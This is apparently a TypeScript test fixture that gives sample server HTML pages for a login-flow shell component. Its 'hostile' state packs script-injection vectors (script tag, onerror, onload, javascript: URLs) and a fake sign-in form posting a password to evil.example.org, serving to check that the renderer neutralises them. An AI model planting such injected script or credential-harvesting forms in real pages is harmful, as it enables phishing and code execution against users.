import type { ShellChallenge } from "../../src/protocol/challenges.js";
import type { Fixture } from "./fixture.js";

const page = (title: string, main: string, attributes = 'lang="en"') =>
  `<!DOCTYPE html>\n<html ${attributes}><head><title>${title}</title><style>* { display: none }</style></head>` +
  `<body><header><img src="/static/logo.svg" alt="Example"></header><main>${main}</main></body></html>`;

/** A page of the server. */
export default {
  component: "xak-flow-shell",
  states: {
    document: {
      component: "xak-flow-shell",
      body: page("Bad Request - Example", "<h1>Bad Request</h1><p>Invalid sp_binding specified</p>"),
    },
    /** What the server answers to a wrong device code: its whole page, with what a page has around its message. */
    denied: {
      component: "xak-flow-shell",
      body: page(
        "Permission denied - Example",
        '<div class="pf-c-login__main-header pf-c-brand ak-brand"><img src="/static/logo.svg" alt="Example"></div>' +
          '<header class="pf-c-login__main-header"><h1 class="pf-c-title">Permission denied</h1></header>' +
          '<div class="pf-c-login__main-body"><form class="pf-c-form"><div class="pf-c-form__group">' +
          '<div class="form-control-static"><img class="pf-c-avatar" src="/static/ada.svg" alt=""> ada ' +
          '<a href="/flows/-/cancel/">Not you?</a></div></div>' +
          "<div><p>Request has been denied.</p>\n<p>Invalid code</p></div></form></div>",
      ),
    },
    fragment: { component: "xak-flow-shell", body: '<p>Hello, <a href="/if/user/">Ada</a>.</p>' },
    /** None of this may run, load or look like a form of ours. */
    hostile: {
      component: "xak-flow-shell",
      body: page(
        "<b>Ada</b> &amp; the Engine",
        `<p>Still here.</p><script>document.title = "ran"</script><img src="x" alt="" onerror="document.title='ran'">` +
          `<svg onload="document.title='ran'"></svg><a href="javascript:document.title='ran'">link</a>` +
          `<form action="https://evil.example.org/"><input name="password"><button>Sign in</button></form>` +
          `<iframe src="javascript:parent.document.title='ran'"></iframe><p style="position:fixed;inset:0">Over.</p>`,
      ),
    },
    longTexts: {
      component: "xak-flow-shell",
      body: page(
        "Bad Request",
        `<h1>Bad Request</h1><p>${"a-reason-without-a-place-to-break-".repeat(20)}</p>`.repeat(2),
      ),
    },
    rightToLeft: {
      component: "xak-flow-shell",
      body: page("طلب غير صالح", "<h1>طلب غير صالح</h1><p>تعذّر فهم الطلب.</p>", 'lang="ar" dir="rtl"'),
    },
    bare: { component: "xak-flow-shell", body: "" } satisfies ShellChallenge,
  },
} satisfies Fixture<"xak-flow-shell">;
